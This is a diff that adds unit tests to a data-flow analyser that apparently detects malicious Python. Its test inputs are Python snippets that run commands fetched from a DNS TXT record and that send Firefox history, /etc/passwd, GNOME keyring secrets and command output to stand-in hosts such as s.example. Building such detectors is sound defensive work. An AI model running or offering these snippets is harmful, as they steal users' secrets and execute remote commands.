@@ -295,6 +295,27 @@ class DataFlowTest {
                       "os.system(c + ' -s x')")))
           .contains(3);
     }
+
+    @Test
+    void aDnsAnswerIsReceivedFromTheNetwork() {
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  lines(
+                      "import subprocess, dns.resolver",
+                      "answer = dns.resolver.resolve('c.example', 'TXT')",
+                      "command = b''.join(answer[0].strings).decode()",
+                      "subprocess.run(command, shell=True)")))
+          .contains(4);
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  lines(
+                      "import subprocess, dns.resolver",
+                      "address = dns.resolver.resolve('c.example', 'A')[0].to_text()",
+                      "subprocess.run(['ping', '-c', '1', address])")))
+          .isEmpty(); // the program run is ping; the address is only its argument
+    }
   }
 
   @Nested
@@ -395,6 +416,72 @@ class DataFlowTest {
                       "with open(path, 'rb') as f:",
                       "    requests.post('https://x.example/up', files={'f': f})")))
           .contains(5);
+    }
+
+    @Test
+    void aCopyOfAFileHoldsWhatTheOriginalHeld() {
+      assertThat(
+              reached(
+                  "sends-home-file",
+                  lines(
+                      "import glob, os, shutil, sqlite3, requests",
+                      "rows = []",
+                      "for db in glob.glob(os.path.expanduser('~/.mozilla/firefox/*/places.sqlite')):",
+                      "    copy = '/tmp/p.sqlite'",
+                      "    shutil.copyfile(db, copy)",
+                      "    rows += sqlite3.connect(copy).execute('SELECT url FROM moz_places').fetchall()",
+                      "requests.post('https://s.example/h', json=rows)")))
+          .contains(7);
+      assertThat(
+              reached(
+                  "sends-home-file",
+                  lines(
+                      "import os, shutil, requests",
+                      "shutil.copyfile('defaults.toml', target)",
+                      "requests.post('https://s.example/h', data=open(target).read())")))
+          .isEmpty(); // the package's own file, copied and sent
+    }
+
+    @Test
+    void systemAccountFilesAndTheGnomeKeyringAreSecrets() {
+      assertThat(
+              reached(
+                  "sends-secrets",
+                  lines(
+                      "import urllib.request",
+                      "with open('/etc/passwd', 'rb') as f:",
+                      "    urllib.request.urlopen('https://s.example/u', data=f.read())")))
+          .contains(3);
+      assertThat(
+              reached(
+                  "sends-secrets",
+                  lines(
+                      "import secretstorage, requests",
+                      "box = secretstorage.get_default_collection(secretstorage.dbus_init())",
+                      "found = [i.get_secret() for i in box.get_all_items()]",
+                      "requests.post('https://s.example/k', json=found)")))
+          .contains(4);
+    }
+
+    @Test
+    void aCommandsOutputSentIsEvidenceOfItsOwn() {
+      assertThat(
+              reached(
+                  "sends-command-output",
+                  lines(
+                      "import subprocess, requests",
+                      "out = subprocess.run('ls -la ~', shell=True, capture_output=True).stdout",
+                      "requests.post('https://s.example/x', data=out)")))
+          .contains(3);
+      assertThat(
+              reached(
+                  "sends-command-output",
+                  lines(
+                      "import subprocess, requests",
+                      "out = subprocess.run(['make'], capture_output=True).stdout",
+                      "print(out)",
+                      "requests.post('https://s.example/x', data=b'done')")))
+          .isEmpty(); // shown to the user; what is sent is something else
     }
 
     @Test
